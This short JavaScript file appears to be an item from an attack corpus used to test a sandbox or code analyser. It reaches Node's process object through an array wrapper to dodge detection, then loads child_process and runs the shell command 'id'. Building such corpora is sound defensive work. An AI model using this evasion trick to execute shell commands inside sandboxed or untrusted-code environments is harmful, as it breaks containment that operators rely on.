// corpus: attack class=process form=targeted
// process reached through an array: [process][0].
function main() {
  const proc = [process][0];
  return { out: proc.getBuiltinModule('child_process').execSync('id').toString() };
}

module.exports = { main };
